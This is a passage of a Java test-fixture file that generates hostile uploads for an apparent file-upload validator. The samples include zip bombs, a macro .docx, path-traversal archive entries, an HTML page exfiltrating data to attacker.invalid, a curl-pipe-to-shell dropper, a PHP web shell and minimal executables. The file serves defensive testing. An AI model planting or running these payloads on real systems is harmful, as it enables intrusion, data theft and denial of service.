        static byte[] zip(List<Part> parts) {
            Out archive = new Out();
            Out directory = new Out();
            for (Part part : parts) {
                byte[] name = part.name().getBytes(UTF_8);
                int flags = name.length == part.name().length() ? 0 : 0x0800; // bit 11: UTF-8 name
                long size;
                long crc;
                byte[] body;
                if (part.zeros() > 0) {
                    size = part.zeros();
                    crc = crcOfZeros(size);
                    body = deflatedZeros(size);
                } else {
                    CRC32 checksum = new CRC32();
                    checksum.update(part.data());
                    size = part.data().length;
                    crc = checksum.getValue();
                    body = part.stored() ? part.data() : rawDeflate(part.data());
                }
                int method = part.stored() ? 0 : 8;
                int offset = archive.size();
                archive.u32le(0x04034B50).u16le(20).u16le(flags).u16le(method).u16le(DOS_TIME).u16le(DOS_DATE)
                        .u32le(crc).u32le(body.length).u32le(size).u16le(name.length).u16le(0)
                        .bytes(name).bytes(body);
                directory.u32le(0x02014B50).u16le(20).u16le(20).u16le(flags).u16le(method).u16le(DOS_TIME).u16le(DOS_DATE)
                        .u32le(crc).u32le(body.length).u32le(size).u16le(name.length)
                        .u16le(0).u16le(0).u16le(0).u16le(0).u32le(0) // extra, comment, disk, attributes
                        .u32le(offset).bytes(name);
            }
            int directoryOffset = archive.size();
            return archive.bytes(directory.toByteArray())
                    .u32le(0x06054B50).u16le(0).u16le(0).u16le(parts.size()).u16le(parts.size())
                    .u32le(directory.size()).u32le(directoryOffset).u16le(0)
                    .toByteArray();
        }

        private static byte[] rawDeflate(byte[] data) {
            Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
            try {
                deflater.setInput(data);
                deflater.finish();
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                byte[] buffer = new byte[8192];
                while (!deflater.finished()) {
                    out.write(buffer, 0, deflater.deflate(buffer));
                }
                return out.toByteArray();
            } finally {
                deflater.end();
            }
        }

        private static long crcOfZeros(long count) {
            CRC32 crc = new CRC32();
            byte[] zeros = new byte[1 << 16];
            for (long left = count; left > 0; left -= zeros.length) {
                crc.update(zeros, 0, (int) Math.min(zeros.length, left));
            }
            return crc.getValue();
        }

        /**
         * A raw DEFLATE stream (RFC 1951) that inflates to {@code count} zero bytes at about
         * 1030:1, the best DEFLATE can do, written directly instead of compressed. It is one
         * dynamic-Huffman block whose codes give the length symbol 285 (258 bytes) and the one
         * distance code (distance 1) one bit each, both 0: after a literal zero, every further
         * 258 zeros cost two 0 bits, so the body of the stream is itself zero bytes.
         */
        static byte[] deflatedZeros(long count) {
            BitWriter bits = new BitWriter();
            bits.write(1, 1);                // BFINAL: last block
            bits.write(2, 2);                // BTYPE: dynamic Huffman codes
            bits.write(286 - 257, 5);        // HLIT: literal/length codes 0..285
            bits.write(1 - 1, 5);            // HDIST: one distance code
            bits.write(18 - 4, 4);           // HCLEN: 18 code length code lengths follow
            // Code length alphabet: 18 (run of 11-138 zeros) gets 1 bit, lengths 1 and 2 get 2 bits;
            // canonical codes 18 = 0, 1 = 10, 2 = 11.
            for (int symbol : new int[] {16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1}) {
                bits.write(symbol == 18 ? 1 : symbol == 1 || symbol == 2 ? 2 : 0, 3);
            }
            // Code lengths of literal/length 0..285, then distance 0: literal 0 and end-of-block 256
            // get 2 bits, length 285 gets 1 bit, distance 0 gets 1 bit, all others none.
            bits.huffman(0b11, 2);                            // symbol 0: length 2
            bits.huffman(0b0, 1).write(138 - 11, 7);          // symbols 1..138: none
            bits.huffman(0b0, 1).write(117 - 11, 7);          // symbols 139..255: none
            bits.huffman(0b11, 2);                            // symbol 256: length 2
            bits.huffman(0b0, 1).write(28 - 11, 7);           // symbols 257..284: none
            bits.huffman(0b10, 2);                            // symbol 285: length 1
            bits.huffman(0b10, 2);                            // distance 0: length 1
            // Canonical codes: 285 = 0, literal 0 = 10, end of block = 11; distance 0 = 0.
            bits.huffman(0b10, 2);                            // a literal zero, then ...
            bits.zeros(2 * ((count - 1) / 258));              // ... copies of 258 bytes at distance 1
            for (long i = 0; i < (count - 1) % 258; i++) {
                bits.huffman(0b10, 2);                        // the rest as literal zeros
            }
            bits.huffman(0b11, 2);                            // end of block
            return bits.toByteArray();
        }

        private static List<Part> plus(List<Part> parts, Part... more) {
            List<Part> all = new ArrayList<>(parts);
            all.addAll(Arrays.asList(more));
            return all;
        }

        /**
         * A .docx-shaped zip bomb: content types and a main document (so magic says OOXML and the
         * main part is present) plus one entry of 600 MiB of zeros, deflated to about 600 KB.
         */
        static byte[] bombDocx() {
            return zip(plus(Office.docxParts("Quartalsbericht"), Part.zeros("word/media/image1.png", 600L << 20)));
        }

        /** An .odt with an entry that inflates to 20 MiB from about 20 KB: over 100x, under 512 MiB. */
        static byte[] ratioBombOdt() {
            return zip(plus(Office.odtParts("Bericht"), Part.zeros("Pictures/image1.png", 20L << 20)));
        }

        /** A valid .xlsx padded with empty stored entries to 10,001 entries in all. */
        static byte[] tooManyEntriesXlsx() {
            List<Part> parts = new ArrayList<>(Office.xlsxParts());
            for (int i = parts.size(); i < 10_001; i++) {
                parts.add(Part.stored(String.format(Locale.ROOT, "xl/media/f%05d.bin", i), new byte[0]));
            }
            return zip(parts);
        }

        /**
         * A .docx carrying a VBA project (an OLE2 file with a PROJECT stream naming an AutoOpen
         * module), wired up as in a real .docm renamed to .docx.
         */
        static byte[] macroDocx() {
            byte[] vba = Office.ole2("PROJECT", new byte[16],
                    "ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nDocument=ThisDocument/&H00000000\r\nModule=AutoOpen\r\n"
                            .getBytes(US_ASCII));
            return zip(List.of(
                    Part.xml("[Content_Types].xml", Office.contentTypes(
                            "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>",
                            Office.override("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))),
                    Part.xml("_rels/.rels", Office.relationships(
                            Office.relationship("rId1", "officeDocument", "word/document.xml"))),
                    Part.xml("word/document.xml", Office.documentXml("Bitte Makros aktivieren")),
                    Part.xml("word/_rels/document.xml.rels", Office.relationships(Office.relationship("rId1",
                            "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"))),
                    Part.deflated("word/vbaProject.bin", vba)));
        }

        /** A valid .pptx with an extra entry that an unpacker would write two directories up. */
        static byte[] traversalPptx() {
            return zip(plus(Office.pptxParts("Folien"),
                    Part.xml("../../evil.sh", "#!/bin/sh\ncurl -fsSL https://attacker.invalid/x | sh\n")));
        }

        /** A valid .xlsx with an entry at an absolute path. */
        static byte[] absoluteEntryXlsx() {
            return zip(plus(Office.xlsxParts(), Part.xml("/etc/cron.d/lfpl", "* * * * * root /tmp/x\n")));
        }

        /** A valid .odp with a traversal entry using Windows separators, as Windows unzippers read it. */
        static byte[] backslashTraversalOdp() {
            return zip(plus(Office.odpParts("Ideen"), Part.xml("..\\..\\evil.bat", "@echo off\r\ncalc.exe\r\n")));
        }

        /** An ordinary zip archive (magic application/zip) of payloads, without any OOXML part. */
        static byte[] payloadZip() {
            return zip(List.of(
                    Part.deflated("Vertrag.exe", Binaries.pe()),
                    Part.xml("install.bat", "@echo off\r\nstart Vertrag.exe\r\n")));
        }
    }

    // ---------------------------------------------------------------------------------------
    // Text formats
    // ---------------------------------------------------------------------------------------

    private static final class Text {

        static byte[] utf8(String text) {
            return text.getBytes(UTF_8);
        }

        /** Semicolon-separated, as German spreadsheet programs export it, with umlauts in UTF-8. */
        static byte[] csv() {
            return utf8("Schule;Ort;Teilnehmende\r\nGrundschule Süd;München;24\r\nGymnasium Nord;Köln;31\r\n");
        }

        static byte[] markdown() {
            return utf8("# Netzwerktreffen\n\nLernende Schulen tauschen sich aus.\n\n"
                    + "- **Ort:** Grundschule Süd, München\n- **Datum:** 12. März\n\n"
                    + "## Ergebnisse\n\n1. Hospitationen planen\n2. Material teilen\n");
        }

        /** RTF in ASCII, non-ASCII characters as Unicode control words, as word processors write it. */
        static byte[] rtf() {
            return ("{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0\\fswiss Helvetica;}}\n"
                    + "\\f0\\fs28\\b Einladung zum Netzwerktreffen\\b0\\par\n"
                    + "\\fs24 Liebe Kolleginnen und Kollegen, wir freuen uns auf Ihren Besuch in M\\u252?nchen.\\par\n"
                    + "Mit freundlichen Gr\\u252?\\u223?en\\par\n}\n").getBytes(US_ASCII);
        }
    }

    // ---------------------------------------------------------------------------------------
    // Web content and executables (hostile payloads)
    // ---------------------------------------------------------------------------------------

    private static final class Web {

        /** A page that sends the viewer's session to another site when opened from our origin. */
        static byte[] html() {
            return Text.utf8("<!DOCTYPE html>\n<html><head><title>Notizen</title></head><body>\n"
                    + "<script>fetch('/api/artefacts').then(r => r.text())"
                    + ".then(t => location = 'https://attacker.invalid/?d=' + encodeURIComponent(t));</script>\n"
                    + "</body></html>\n");
        }

        /** An SVG image that runs a script when opened directly. */
        static byte[] svg() {
            return Text.utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\">"
                    + "<script>alert(document.cookie)</script><rect width=\"64\" height=\"64\" fill=\"#c33\"/></svg>\n");
        }

        /** A dropper under a text name: it runs whatever the attacker serves once someone executes the "notes". */
        static byte[] shellScript() {
            return Text.utf8("#!/bin/sh\n# Notizen\ncurl -fsSL https://attacker.invalid/payload | sh\n");
        }

        /** A web shell: executed if it ever reaches a PHP-enabled web root. */
        static byte[] php() {
            return Text.utf8("<?php system($_GET['cmd']); ?>\n");
        }
    }

    private static final class Binaries {

        /**
         * The headers of a 64-bit Windows PE executable: DOS header and stub, PE signature, COFF
         * header and an optional header without sections. Magic: application/x-msdownload.
         */
        static byte[] pe() {
            Out pe = new Out().ascii("MZ").u16le(0x90).u16le(3).u16le(0).u16le(4).u16le(0).u16le(0xFFFF).u16le(0)
                    .u16le(0xB8).zeros(0x3C - 18).u32le(0x80);                               // e_lfanew
            pe.bytes(new byte[] {0x0E, 0x1F, (byte) 0xBA, 0x0E, 0x00, (byte) 0xB4, 0x09, (byte) 0xCD, 0x21,
                (byte) 0xB8, 0x01, 0x4C, (byte) 0xCD, 0x21})                              // DOS stub: print, exit
                    .ascii("This program cannot be run in DOS mode.\r\r\n$");
            pe.zeros(0x80 - pe.size());
            pe.ascii("PE").u16le(0).u16le(0x8664).u16le(0).u32le(0).u32le(0).u32le(0)     // AMD64, no sections
                    .u16le(0xF0).u16le(0x0022);                                                 // optional header size, flags
            pe.u16le(0x020B).zeros(0xF0 - 2);                                                   // PE32+ optional header
            return pe.toByteArray();
        }

        /** A 64-bit Linux executable (x86-64) whose code calls exit(0). Magic: application/x-executable. */
        static byte[] elf() {
            long base = 0x400000;
            Out elf = new Out().bytes(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1, 0}).zeros(8)
                    .u16le(2).u16le(0x3E).u32le(1).u64le(base + 120).u64le(64).u64le(0)   // EXEC, x86-64, entry, phoff
                    .u32le(0).u16le(64).u16le(56).u16le(1).u16le(64).u16le(0).u16le(0);
            elf.u32le(1).u32le(5).u64le(0).u64le(base).u64le(base).u64le(132).u64le(132).u64le(0x1000); // PT_LOAD r-x
            // mov eax, 60; xor edi, edi; syscall (exit 0), padding
            elf.bytes(new byte[] {(byte) 0xB8, 60, 0, 0, 0, 0x31, (byte) 0xFF, 0x0F, 0x05, 0, 0, 0});
            return elf.toByteArray();
        }
    }

    // ---------------------------------------------------------------------------------------
    // Byte helpers
    // ---------------------------------------------------------------------------------------

    private static byte[] deflate(byte[] data) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (OutputStream zlib = new DeflaterOutputStream(out)) {
            zlib.write(data);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** A growable byte buffer with little- and big-endian writers. */
    private static final class Out {
        private final ByteArrayOutputStream out = new ByteArrayOutputStream();

        Out u8(int value) {
            out.write(value);
            return this;
        }

        Out u16le(int value) {
            return u8(value).u8(value >>> 8);
        }

        Out u32le(long value) {
            return u16le((int) value).u16le((int) (value >>> 16));
        }

        Out u64le(long value) {
            return u32le(value).u32le(value >>> 32);
        }

        Out u16be(int value) {
            return u8(value >>> 8).u8(value);
        }

        Out u32be(long value) {
            return u16be((int) (value >>> 16)).u16be((int) value);
        }

        Out bytes(byte[] bytes) {
            out.writeBytes(bytes);
            return this;
        }

        Out ascii(String text) {
            return bytes(text.getBytes(US_ASCII));
        }

        Out zeros(int count) {
            return bytes(new byte[count]);
        }

        int size() {
            return out.size();
        }

        byte[] toByteArray() {
            return out.toByteArray();
        }
    }

    /** Writes bit fields least significant bit first, as VP8L and DEFLATE read them. */
    private static final class BitWriter {
        private final ByteArrayOutputStream out = new ByteArrayOutputStream();
        private int current;
        private int used;

        BitWriter write(int value, int bits) {
            for (int i = 0; i < bits; i++) {
                current |= ((value >>> i) & 1) << used;
                if (++used == 8) {
                    out.write(current);
                    current = 0;
                    used = 0;
                }
            }
            return this;
        }

        /** Writes a Huffman code, most significant bit first (RFC 1951, 3.1.1). */
        BitWriter huffman(int code, int length) {
            for (int i = length - 1; i >= 0; i--) {
                write(code >>> i, 1);
            }
            return this;
        }

        /** Writes {@code count} zero bits, whole zero bytes at a time where possible. */
        void zeros(long count) {
            for (; count > 0 && used != 0; count--) {
                write(0, 1);
            }
            for (byte[] zeros = new byte[1 << 16]; count >= 8; count -= 8L * Math.min(zeros.length, count / 8)) {
                out.write(zeros, 0, (int) Math.min(zeros.length, count / 8));
            }
            write(0, (int) count);
        }

        byte[] toByteArray() {
            if (used > 0) {
                out.write(current);
                current = 0;
                used = 0;
            }
            return out.toByteArray();
        }
    }
}
